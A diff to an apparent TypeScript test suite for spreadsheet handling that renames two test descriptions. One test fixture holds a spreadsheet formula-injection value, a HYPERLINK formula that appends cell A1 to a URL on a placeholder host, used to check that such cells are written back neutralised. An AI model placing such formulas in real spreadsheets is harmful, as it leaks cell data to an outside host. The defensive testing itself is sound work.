@@ -190,7 +190,7 @@ describe('messy sheets', () => {
   });
 });
 
-describe('dates that cannot be right (issue 14, defect 6)', () => {
+describe('dates that cannot be right', () => {
   const values: CellValue[][] = [
     ['ФИО', 'Дата рождения', 'Стаж, лет', 'Дата согласия'],
     ['Андреева Полина', '14.03.65', 1, '01.09.25'],
@@ -269,7 +269,7 @@ describe('writing back', () => {
     expect(toSheetValue(d)).toBe(d);
   });
 
-  it('a block spanning a row writes that row back neutralised (issue 14, defect 3)', () => {
+  it('a block spanning a row writes that row back neutralised', () => {
     // Row 3 was written as «'=HYPERLINK(…)» and «'+7 900…»; getValues gives the text without the apostrophe.
     const formula = '=HYPERLINK("http://x.example/?"&A1;"y")';
     const sheet: CellValue[][] = [
